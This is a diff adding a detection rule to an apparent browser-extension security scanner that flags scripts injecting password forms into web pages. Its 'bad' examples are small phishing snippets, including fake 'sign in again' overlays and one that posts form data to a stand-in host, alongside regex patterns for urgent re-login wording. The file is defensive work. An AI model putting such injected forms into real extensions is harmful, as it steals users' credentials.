@@ -1,0 +1,56 @@
+import { callsNamed, callsOf, pattern, writesOf, apiPath, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts, contentExample } from './checkScripts.ts';
+import { mentions } from './network.ts';
+import { runsInPages } from './places.ts';
+import { sendingsOf } from './sendings.ts';
+import { few } from './usage.ts';
+
+const PASSWORD = /<input\b[^>]*\btype\s*=\s*\\?["']?password/i;
+/** What else a form for signing in holds. */
+const ACCOUNT = /<input\b[^>]*\b(type\s*=\s*\\?["']?(email|tel)|(name|id|placeholder|autocomplete)\s*=\s*\\?["']?(e-?mail|user|login|phone|account))/i;
+const PRESSING = /(session|login|sign-?in)\b[^<]{0,30}\bexpired|sign in again|log ?in again|verify (it'?s you|your (account|identity))|confirm your password|re-?enter your password|account (is )?(locked|suspended)/i;
+
+export const signInFormInPage = defineRule({
+  id: 'sign-in-form-in-page',
+  title: 'A form that asks for a password is put into other people’s pages',
+  severity: 'medium',
+  confidence: 'medium',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-451',
+  references: ['https://attack.mitre.org/techniques/T1056/003/'],
+  why: 'People see the address of the site above the form and take the form for the site’s own. What they enter goes to whoever wrote the extension.',
+  remedy: 'Ask for passwords only in pages of the extension, or by the sign-in function of the browser.',
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    if (!runsInPages(facts, file.path) || !mentions(script, PASSWORD)) return;
+    for (const { value, whole } of few([...markups(script)], 200)) {
+      const text = pattern(script, value);
+      if (!PASSWORD.test(text)) continue;
+      const pressing = PRESSING.test(text) || mentions(script, PRESSING);
+      if (!whole && !pressing && !(ACCOUNT.test(text) && sendingsOf(script).some((sending) => sending.kind !== 'storage'))) continue;
+      yield hit(value, whole || pressing ? { severity: 'high', message: whole ? 'The form takes the place of the whole page.' : 'It says that signing in again is needed.' } : { confidence: 'low' });
+      return;
+    }
+  }),
+  examples: {
+    bad: [
+      contentExample('document.addEventListener("visibilitychange", () => { document.body.innerHTML = \'<h1>Sign in again</h1><form id="f"><input name="email" type="email"><input name="pw" type="password"><button>Next</button></form>\'; });'),
+      contentExample('document.body.insertAdjacentHTML("beforeend", \'<div class="box"><p>Your session has expired</p><input type="password" id="p"><button>Continue</button></div>\');'),
+      contentExample('const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);'),
+    ],
+    good: [
+      contentExample('panel.innerHTML = \'<label>API key <input type="password" id="key"></label>\'; panel.onchange = () => chrome.storage.local.set({ key: panel.querySelector("#key").value });'),
+      contentExample('document.querySelectorAll(\'input[type="password"]\').forEach((f) => { f.type = "text"; });'),
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<div id="a"></div><script src="p.js"></script>', 'p.js': 'a.innerHTML = \'<input name="email"><input type="password">\'; a.onsubmit = () => fetch("https://api.example.com/login", { method: "POST" });' } },
+    ],
+  },
+});
+
+/** Markup that is put into the page, and whether it takes the page's place. */
+function* markups(script: ScriptFacts): Generator<{ value: number; whole: boolean }> {
+  for (const write of writesOf(script, 'innerHTML', 'outerHTML', 'srcdoc')) yield { value: write.value, whole: /^document\.(body|documentElement)$/.test(apiPath(script, write.object) ?? '') };
+  for (const call of callsNamed(script, 'insertAdjacentHTML')) yield { value: call.args[1] ?? 0, whole: false };
+  for (const call of callsNamed(script, 'append', 'prepend', 'html', 'createContextualFragment', 'parseFromString')) yield { value: call.args[0] ?? 0, whole: false };
+  for (const call of callsOf(script, 'document.write')) yield { value: call.args[0] ?? 0, whole: true };
+}
